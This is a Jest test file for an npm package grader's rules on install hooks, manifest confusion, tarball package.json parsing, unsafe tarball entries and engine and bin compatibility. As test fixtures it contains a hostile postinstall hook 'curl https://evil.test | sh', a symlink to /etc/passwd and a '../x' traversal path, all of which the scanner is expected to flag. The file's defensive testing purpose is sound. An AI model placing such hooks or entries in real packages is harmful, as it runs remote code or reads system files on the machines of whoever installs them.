import { describe, expect, it } from '@jest/globals'
import { checkCompatibility } from '../../../src/grade/builtin/compatibility-rules.js'
import { checkInstallBehaviour } from '../../../src/grade/builtin/install-rules.js'
import {
  checkUnsafeEntries,
  readTarballPackageJson
} from '../../../src/grade/builtin/tarball-rules.js'
import { ids, manifestOf, packageFilesOf } from './helpers.js'

const noFiles = packageFilesOf({})
const same = { name: 'example-mcp', version: '1.0.0' }

describe('checkInstallBehaviour', () => {
  it('reports each install hook with its script as evidence', () => {
    const manifest = manifestOf({
      scripts: { postinstall: 'node ./setup.js', build: 'tsc', preinstall: 'echo hi' }
    })
    const findings = checkInstallBehaviour(
      manifest,
      { ...same, scripts: manifest.scripts },
      noFiles
    )
    expect(findings.map((f) => f.evidence?.snippet)).toEqual([
      'preinstall: echo hi',
      'postinstall: node ./setup.js'
    ])
    expect(findings[0]).toMatchObject({
      ruleId: 'npm.install-script',
      axis: 'security',
      severity: 'high',
      cwe: 'CWE-829'
    })
  })

  it('reports hasInstallScript and binding.gyp when no hook is visible', () => {
    const flagged = checkInstallBehaviour(manifestOf({ hasInstallScript: true }), same, noFiles)
    expect(flagged[0]?.evidence?.snippet).toMatch(/hasInstallScript/)
    const gyp = checkInstallBehaviour(
      manifestOf({ scripts: { install: 'node-gyp rebuild' } }),
      same,
      packageFilesOf({ 'binding.gyp': '{}' })
    )
    // npm wrote the gyp default into the registry manifest: an install script, not a mismatch
    expect(ids(gyp)).toEqual(['npm.install-script'])
  })

  it('finds nothing for a package without install steps', () => {
    expect(checkInstallBehaviour(manifestOf({ scripts: { build: 'tsc' } }), same, noFiles)).toEqual(
      []
    )
  })

  it('reports a registry manifest that hides what the tarball runs (manifest confusion)', () => {
    const manifest = manifestOf({ dependencies: { zod: '^4.0.0' } })
    const tarball = {
      ...same,
      scripts: { postinstall: 'curl https://evil.test | sh' },
      dependencies: { zod: '^4.0.0', 'evil-dep': '1.0.0' }
    }
    const findings = checkInstallBehaviour(manifest, tarball, noFiles)
    expect(ids(findings)).toEqual(['npm.install-script', 'npm.manifest-mismatch'])
    expect(findings[1]?.evidence?.snippet).toBe(
      'scripts.postinstall: registry (none), tarball "curl https://evil.test | sh"; ' +
        'dependencies.evil-dep: registry (none), tarball "1.0.0"'
    )
  })

  it('reports a different name or version in the tarball', () => {
    const findings = checkInstallBehaviour(
      manifestOf(),
      { name: 'other', version: '9.9.9' },
      noFiles
    )
    expect(findings[0]?.evidence?.snippet).toBe(
      'name: registry example-mcp, tarball "other"; version: registry 1.0.0, tarball "9.9.9"'
    )
  })
})

describe('readTarballPackageJson', () => {
  it('parses a valid package.json', () => {
    const parsed = readTarballPackageJson(packageFilesOf({ 'package.json': '{"name":"a"}' }))
    expect(parsed).toEqual({ ok: true, json: { name: 'a' }, finding: null })
  })

  it('names the fields npm reads that have the wrong type, and keeps the object', () => {
    const parsed = readTarballPackageJson(
      packageFilesOf({
        'package.json': JSON.stringify({
          name: 'a',
          version: 1,
          bin: { a: 5 },
          scripts: 'node x.js',
          dependencies: ['zod'],
          exports: 42
        })
      })
    )
    expect(parsed).toMatchObject({
      ok: true,
      json: { name: 'a', scripts: 'node x.js' },
      finding: {
        ruleId: 'tarball.package-json-invalid',
        evidence: {
          file: 'package.json',
          snippet:
            'fields npm reads have the wrong type: `version`, `bin`, `scripts`, `dependencies`'
        }
      }
    })
  })

  it('turns invalid JSON into a located finding, not a crash', () => {
    const parsed = readTarballPackageJson(
      packageFilesOf({ 'package.json': '{\n  "name": "a",\n  "version": \n}' })
    )
    expect(parsed.ok).toBe(false)
    if (parsed.ok) return
    expect(parsed.finding).toMatchObject({
      ruleId: 'tarball.package-json-invalid',
      axis: 'compatibility',
      evidence: {
        file: 'package.json',
        line: 4,
        snippet: 'not valid JSON: ValueExpected at line 4, column 1'
      }
    })
  })

  it('reports a missing package.json and a non-object one', () => {
    const missing = readTarballPackageJson(packageFilesOf({ 'index.js': '' }))
    expect(missing.ok ? null : missing.finding.evidence?.snippet).toBe(
      'no package.json in the tarball'
    )
    const array = readTarballPackageJson(packageFilesOf({ 'package.json': '[1]' }))
    expect(array.ok ? null : array.finding.evidence?.snippet).toMatch(/not an object/)
  })
})

describe('checkUnsafeEntries', () => {
  it('lists skipped links and refused paths in one security finding', () => {
    const files = packageFilesOf(
      {},
      {
        skipped: [
          { path: 'package/l', reason: 'symlink', linkpath: '/etc/passwd', note: 'link l' },
          { path: '../x', reason: 'parent-segment', note: 'path ../x refused' },
          { path: 'big.js', reason: 'too-large', note: 'big.js listed, not read' }
        ]
      }
    )
    const findings = checkUnsafeEntries(files)
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'tarball.unsafe-entry',
        axis: 'security',
        evidence: { file: 'package/l', snippet: '2 entries: link l; path ../x refused' }
      })
    ])
    expect(checkUnsafeEntries(packageFilesOf({}))).toEqual([])
  })
})

describe('checkCompatibility', () => {
  it('wants engines.node and a bin entry', () => {
    expect(ids(checkCompatibility(manifestOf()))).toEqual([
      'npm.engines-missing',
      'npm.bin-missing'
    ])
    expect(
      checkCompatibility(manifestOf({ engines: { node: '>=20' }, bin: { x: 'dist/index.js' } }))
    ).toEqual([])
    expect(
      checkCompatibility(manifestOf({ engines: { node: '>=20' }, bin: 'dist/index.js' }))
    ).toEqual([])
  })

  it('reports an engines.node that is not a range', () => {
    const findings = checkCompatibility(
      manifestOf({ engines: { node: 'the latest one' }, bin: 'x.js' })
    )
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'npm.engines-invalid',
        evidence: { file: 'package.json', snippet: 'engines.node: "the latest one"' }
      })
    ])
  })
})
